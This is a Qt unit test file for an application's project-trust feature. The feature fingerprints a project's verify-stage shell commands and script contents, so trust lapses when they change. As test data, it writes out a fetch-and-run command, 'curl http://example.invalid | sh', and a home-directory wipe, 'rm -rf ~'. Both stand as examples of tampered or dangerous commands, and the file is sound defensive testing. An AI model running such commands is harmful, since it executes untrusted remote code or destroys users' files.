#include "models/projectformat.h"
#include "models/projecttrust.h"

#include <QDir>
#include <QFile>
#include <QSettings>
#include <QTemporaryDir>
#include <QTest>
#include <QUuid>

using namespace Seedbed;

namespace {
Stage stage(const QString &type, const QVariantMap &settings, const QString &name = "stage")
{
    Stage s;
    s.id = QUuid::createUuid();
    s.type = type;
    s.name = name;
    s.settings = settings;
    return s;
}

Stage verify(const QString &command, const QString &method = "command")
{
    return stage("verify", {{"method", method}, {"command", command}, {"timeoutSeconds", 30}},
                 "Verify");
}

void writeFile(const QString &path, const QByteArray &bytes)
{
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly | QIODevice::Truncate));
    file.write(bytes);
}
} // namespace

class TestProjectTrust : public QObject
{
    Q_OBJECT

private slots:
    void init();
    void commands();
    void noCommandsNeedNoTrust();
    void trustAndRevoke();
    void commandChangesLapse();
    void otherSettingsKeepTrust();
    void scriptContentIsPartOfTheFingerprint();
    void keyedByCanonicalFolder();
    void storesNoCommands();

private:
    std::unique_ptr<QTemporaryDir> m_home;
    std::unique_ptr<QSettings> m_settings;
    QString m_project;
};

void TestProjectTrust::init()
{
    m_home = std::make_unique<QTemporaryDir>();
    QVERIFY(m_home->isValid());
    m_settings = std::make_unique<QSettings>(m_home->filePath("seedbed.ini"), QSettings::IniFormat);
    m_project = m_home->filePath("project");
    QVERIFY(QDir().mkpath(m_project));
}

void TestProjectTrust::commands()
{
    ProjectData data;
    data.stages = {stage("generate", {{"command", "not a verify stage"}}),
                   verify("python3 check.py"),
                   verify("  ./validate --strict  "),
                   verify("python3 check.py"), // once
                   verify("ignored", "llm"),
                   verify("   "),
                   verify("/bin/true")};
    QCOMPARE(ProjectTrust::commands(data),
             (QStringList{"python3 check.py", "./validate --strict", "/bin/true"}));
    QVERIFY(ProjectTrust::commands(ProjectData()).isEmpty());
}

void TestProjectTrust::noCommandsNeedNoTrust()
{
    ProjectData data;
    data.stages = {stage("generate", {}), verify("x", "llm")};
    const ProjectTrust trust(m_settings.get());
    QVERIFY(trust.isTrusted(m_project, data));
}

void TestProjectTrust::trustAndRevoke()
{
    ProjectData data;
    data.stages = {verify("/bin/sh check.sh")};
    ProjectTrust trust(m_settings.get());
    QVERIFY(!trust.isTrusted(m_project, data));
    trust.trust(m_project, data);
    QVERIFY(trust.isTrusted(m_project, data));
    // Another object over the same settings (the next session) agrees.
    QVERIFY(ProjectTrust(m_settings.get()).isTrusted(m_project, data));
    trust.revoke(m_project);
    QVERIFY(!trust.isTrusted(m_project, data));
    trust.revoke(m_project); // twice is fine
    QVERIFY(!trust.isTrusted(m_project, data));
}

void TestProjectTrust::commandChangesLapse()
{
    ProjectData data;
    data.stages = {verify("/bin/sh check.sh")};
    ProjectTrust trust(m_settings.get());
    trust.trust(m_project, data);

    ProjectData changed = data;
    changed.stages[0].settings["command"] = "/bin/sh check.sh --lenient";
    QVERIFY(!trust.isTrusted(m_project, changed));

    ProjectData added = data;
    added.stages.append(verify("curl http://example.invalid"));
    QVERIFY(!trust.isTrusted(m_project, added));

    // A stage switched from "llm" to "command" adds a command.
    ProjectData switched = data;
    switched.stages.append(verify("rm -rf ~", "llm"));
    QVERIFY(trust.isTrusted(m_project, switched));
    switched.stages.last().settings["method"] = "command";
    QVERIFY(!trust.isTrusted(m_project, switched));

    // Trusting the new state replaces the old one.
    trust.trust(m_project, changed);
    QVERIFY(trust.isTrusted(m_project, changed));
    QVERIFY(!trust.isTrusted(m_project, data));
}

void TestProjectTrust::otherSettingsKeepTrust()
{
    ProjectData data;
    data.stages = {stage("generate", {{"temperature", 0.7}}), verify("/bin/sh check.sh"),
                   verify("/bin/true")};
    ProjectTrust trust(m_settings.get());
    trust.trust(m_project, data);

    ProjectData edited = data;
    edited.name = "renamed";
    edited.stages[0].settings["temperature"] = 1.2;
    edited.stages[1].settings["timeoutSeconds"] = 5;
    edited.stages[1].name = "Check";
    edited.stages[1].position = QPointF(100, 200);
    std::swap(edited.stages[1], edited.stages[2]); // order does not matter
    QVERIFY(trust.isTrusted(m_project, edited));
    QCOMPARE(ProjectTrust::fingerprint(m_project, edited),
             ProjectTrust::fingerprint(m_project, data));
    QCOMPARE(ProjectTrust::fingerprint(m_project, data).size(), 32);
}

void TestProjectTrust::scriptContentIsPartOfTheFingerprint()
{
    const QString scriptPath = QDir(m_project).filePath("check.sh");
    writeFile(scriptPath, "exit 0\n");
    ProjectData data;
    data.stages = {verify("/bin/sh check.sh")};
    ProjectTrust trust(m_settings.get());
    trust.trust(m_project, data);
    QVERIFY(trust.isTrusted(m_project, data));

    // Someone changes the script (a pull, an unpacked archive): the trust lapses.
    writeFile(scriptPath, "curl http://example.invalid | sh\n");
    QVERIFY(!trust.isTrusted(m_project, data));
    writeFile(scriptPath, "exit 0\n");
    QVERIFY(trust.isTrusted(m_project, data));

    // A file the command names outside the project folder is not hashed.
    const QString outside = m_home->filePath("outside.sh");
    writeFile(outside, "exit 0\n");
    ProjectData external;
    external.stages = {verify("/bin/sh " + outside)};
    trust.trust(m_project, external);
    writeFile(outside, "exit 1\n");
    QVERIFY(trust.isTrusted(m_project, external));
}

void TestProjectTrust::keyedByCanonicalFolder()
{
    ProjectData data;
    data.stages = {verify("/bin/true")};
    ProjectTrust trust(m_settings.get());
    trust.trust(m_project, data);

    // The same folder, named differently.
    QVERIFY(trust.isTrusted(m_project + "/", data));
    QVERIFY(trust.isTrusted(m_project + "/../project", data));
    QVERIFY(trust.isTrusted(QDir(m_project).filePath("project.seedbed"), data));
    const QString link = m_home->filePath("link");
    QVERIFY(QFile::link(m_project, link));
    QVERIFY(trust.isTrusted(link, data));
    QCOMPARE(ProjectTrust::canonicalFolder(link), ProjectTrust::canonicalFolder(m_project));

    // A copy elsewhere is another project.
    const QString copy = m_home->filePath("copy");
    QVERIFY(QDir().mkpath(copy));
    QVERIFY(!trust.isTrusted(copy, data));
    QVERIFY(ProjectTrust::fingerprint(copy, data) != ProjectTrust::fingerprint(m_project, data));

    // Revoking through the link revokes the folder.
    trust.revoke(link);
    QVERIFY(!trust.isTrusted(m_project, data));
}

void TestProjectTrust::storesNoCommands()
{
    ProjectData data;
    data.stages = {verify("/bin/sh secret-named-script.sh --token-file tokens.txt")};
    ProjectTrust trust(m_settings.get());
    trust.trust(m_project, data);
    m_settings->sync();
    const QStringList groups = [this] {
        m_settings->beginGroup("trust");
        const QStringList g = m_settings->childGroups();
        m_settings->endGroup();
        return g;
    }();
    QCOMPARE(groups.size(), 1);
    m_settings->beginGroup("trust/" + groups.constFirst());
    QCOMPARE(m_settings->childKeys(), (QStringList{"fingerprint", "path", "trustedAt"}));
    QCOMPARE(m_settings->value("path").toString(), ProjectTrust::canonicalFolder(m_project));
    m_settings->endGroup();
    QFile ini(m_settings->fileName());
    QVERIFY(ini.open(QIODevice::ReadOnly));
    QVERIFY(!ini.readAll().contains("secret-named-script"));
}

QTEST_GUILESS_MAIN(TestProjectTrust)
#include "tst_projecttrust.moc"
